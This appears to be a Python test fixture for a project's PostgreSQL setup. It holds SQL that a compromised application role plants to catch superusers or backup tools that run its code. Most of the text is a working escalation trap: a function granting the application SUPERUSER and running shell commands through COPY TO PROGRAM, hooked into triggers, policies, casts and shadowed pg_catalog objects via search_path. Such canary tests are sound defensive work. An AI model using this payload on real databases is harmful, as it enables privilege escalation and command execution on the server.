"""What an application that was taken over can leave in its own database for those who come with more rights.

Everything here is allowed to the database's owner. It answers like what it stands in for, and calls a canary.
"""

from __future__ import annotations

MARK = "canary ran as"
"""In the server's log and in the table `canary`: another role than the application's ran its code."""

SUPERUSER_PSQL = ("env", "PGOPTIONS=-c search_path=public", "psql", "-U", "postgres")
"""As a test asks for what is in `public`, where nothing is planted: the superuser's own search_path has none of it."""

CANARY = r"""
SET client_min_messages = error;
CREATE TABLE public.canary (role text);
GRANT INSERT, SELECT ON public.canary TO PUBLIC;
CREATE FUNCTION public.canary() RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $canary$
BEGIN
    IF current_setting('canary.ran', true) = current_user THEN
        RETURN true;  -- once for each role of a session: a fork for each row would take hours
    END IF;
    PERFORM set_config('canary.ran', current_user, false);
    BEGIN  -- a superuser who became the application goes back to what he was
        PERFORM set_config('role', 'none', false);
    EXCEPTION WHEN OTHERS THEN
    END;
    IF current_user IN ('samokoder_app', 'samokoder_app_b') THEN
        RETURN true;
    END IF;
    RAISE LOG 'canary ran as %', current_user;
    BEGIN
        INSERT INTO public.canary VALUES (current_user);
    EXCEPTION WHEN OTHERS THEN
    END;
    BEGIN
        ALTER ROLE samokoder_app SUPERUSER;
    EXCEPTION WHEN OTHERS THEN
    END;
    BEGIN
        COPY (SELECT 1) TO PROGRAM 'cat > /tmp/canary; touch /backups/canary; true';
    EXCEPTION WHEN OTHERS THEN
    END;
    RETURN true;
END $canary$;
"""
"""The canary alone; it is quiet where the application runs it."""

PLANTED = (
    CANARY
    + r"""
CREATE FUNCTION public.canary_of(anyelement) RETURNS anyelement IMMUTABLE LANGUAGE plpgsql AS
    $of$ BEGIN PERFORM public.canary(); RETURN $1; END $of$;
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON TYPES TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON SCHEMAS TO PUBLIC;
-- What is checked, computed or done when rows are written, read or indexed.
CREATE DOMAIN public.checked AS int CHECK (public.canary());
CREATE TABLE public.planted (
    id int CHECK (public.canary()), of_domain public.checked DEFAULT 1,
    made int GENERATED ALWAYS AS (public.canary_of(id)) STORED
);
CREATE INDEX planted_made ON public.planted (public.canary_of(id)) WHERE public.canary_of(id) > 0;
CREATE STATISTICS public.planted_statistics ON public.canary_of(id), public.canary_of(made) FROM public.planted;
CREATE FUNCTION public.canary_trigger() RETURNS trigger LANGUAGE plpgsql AS
    $trigger$ BEGIN PERFORM public.canary(); RETURN NEW; END $trigger$;
CREATE TRIGGER planted_trigger BEFORE INSERT OR UPDATE ON public.planted
    FOR EACH ROW EXECUTE FUNCTION public.canary_trigger();
ALTER TABLE public.planted ENABLE ALWAYS TRIGGER planted_trigger;
CREATE RULE planted_rule AS ON INSERT TO public.planted DO ALSO SELECT public.canary();
INSERT INTO public.planted (id) SELECT generate_series(1, 50);
ALTER TABLE public.planted ENABLE ROW LEVEL SECURITY;
CREATE POLICY planted_policy ON public.planted USING (public.canary());
CREATE VIEW public.planted_view AS SELECT * FROM public.planted WHERE public.canary();
CREATE MATERIALIZED VIEW public.planted_rows AS SELECT id, public.canary_of(id) FROM public.planted;
CREATE AGGREGATE public.sum_of_canary(int) (SFUNC = pg_catalog.int4pl, STYPE = int, FINALFUNC = public.canary_of);
CREATE TYPE public.mine AS ENUM ('one');
CREATE FUNCTION public.cast_of(public.mine) RETURNS text LANGUAGE plpgsql AS
    $cast$ BEGIN PERFORM public.canary(); RETURN 'one'; END $cast$;
CREATE CAST (public.mine AS text) WITH FUNCTION public.cast_of(public.mine) AS IMPLICIT;
-- Of every name of the catalogue one of our own: types, relations, functions, operators.
DO $names$
DECLARE
    each record;
BEGIN
    FOR each IN SELECT typname FROM pg_catalog.pg_type
        WHERE typname LIKE 'reg%' AND typnamespace = 'pg_catalog'::regnamespace
    LOOP
        EXECUTE format('CREATE DOMAIN public.%1$I AS pg_catalog.%1$I CHECK (public.canary())', each.typname);
    END LOOP;
    FOR each IN SELECT relname FROM pg_catalog.pg_class
        WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v')
    LOOP
        BEGIN
            EXECUTE format(
                'CREATE VIEW public.%1$I AS SELECT * FROM pg_catalog.%1$I WHERE public.canary()', each.relname);
            EXECUTE format('GRANT SELECT ON public.%I TO PUBLIC', each.relname);
        EXCEPTION WHEN OTHERS THEN
        END;
    END LOOP;
    FOR each IN SELECT p.oid, proname, pg_get_function_identity_arguments(p.oid) AS arguments, proretset,
            format_type(prorettype, NULL) AS result,
            (SELECT coalesce(string_agg('$' || n, ', '), '') FROM generate_series(1, pronargs) AS n) AS given
        FROM pg_catalog.pg_proc AS p
        WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND provariadic = 0 AND proargmodes IS NULL
            AND NOT EXISTS (SELECT FROM pg_catalog.pg_type
                WHERE pg_type.oid = ANY (proargtypes::oid[] || prorettype) AND typtype = 'p')
    LOOP
        BEGIN
            EXECUTE format(
                'CREATE FUNCTION public.%I(%s) RETURNS %s %s LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS '
                '$f$ BEGIN PERFORM public.canary(); RETURN %s pg_catalog.%I(%s); END $f$',
                each.proname, each.arguments, CASE WHEN each.proretset THEN 'SETOF' ELSE '' END, each.result,
                CASE WHEN each.proretset THEN 'QUERY SELECT' ELSE '' END, each.proname, each.given);
        EXCEPTION WHEN OTHERS THEN
        END;
    END LOOP;
    FOR each IN SELECT o.oid, oprname, oprleft, oprright, oprresult FROM pg_catalog.pg_operator AS o
        WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprkind = 'b' AND oprresult <> 0
            AND oprleft <> 'oid'::regtype  -- with them a join of catalogues takes minutes
    LOOP
        BEGIN
            EXECUTE format(
                'CREATE FUNCTION public.operator_%s(%s, %s) RETURNS %s LANGUAGE plpgsql '
                'SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM public.canary(); RETURN $1 %s $2; END $f$',
                each.oid, format_type(each.oprleft, NULL), format_type(each.oprright, NULL),
                format_type(each.oprresult, NULL), each.oprname);
            EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.operator_%s)',
                each.oprname, format_type(each.oprleft, NULL), format_type(each.oprright, NULL), each.oid);
        EXCEPTION WHEN OTHERS THEN
        END;
    END LOOP;
END $names$;
"""
)
"""Statements of the application's role, in one session."""

SETTINGS = """
ALTER DATABASE samokoder SET search_path = public, pg_catalog;
ALTER DATABASE samokoder SET standard_conforming_strings = off;
ALTER DATABASE samokoder SET statement_timeout = '1d';
ALTER DATABASE samokoder SET default_transaction_isolation = serializable;
"""
"""What it sets for its database, after the rest: from then on its own sessions find what is planted."""
